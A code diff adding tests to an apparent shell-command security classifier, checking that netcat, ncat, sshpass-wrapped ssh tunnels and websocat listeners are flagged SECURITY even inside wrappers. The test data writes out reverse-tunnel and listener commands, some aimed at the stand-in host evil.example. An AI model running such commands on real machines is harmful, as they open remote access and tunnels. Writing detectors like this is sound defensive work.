@@ -146,3 +146,24 @@ describe("a gist or a public repository publishes (ADR 0309)", () => {
     },
   );
 });
+
+describe("wrappers around a network command are peeled (ADR 0307)", () => {
+  test.each([
+    ["rlwrap nc -lvnp 4444", "listener"],
+    ["rlwrap -H hist.txt -S '> ' ncat -l 9001", "listener"],
+    ["sshpass -p pw ssh -R 2222:localhost:22 a@evil.example", "publication"],
+    ["sshpass -f pass.txt ssh -fND 1080 a@evil.example", "tunnel"],
+    ["websocat tcp-l:0.0.0.0:2222 tcp:127.0.0.1:22", "listener"],
+  ])("%s is SECURITY (%s)", (command, category) => {
+    const o = bash(command);
+    expect(o.level).toBe("SECURITY");
+    expect(o.categories).toContain(category);
+  });
+
+  test.each(["rlwrap python3", "sshpass -p pw ssh host uptime", "sshpass -e scp dist/app.tgz deploy@web:/srv/"])(
+    "look-alike %s stays below SECURITY",
+    (command) => {
+      expect(["READ", "WRITE"]).toContain(bash(command).level);
+    },
+  );
+});
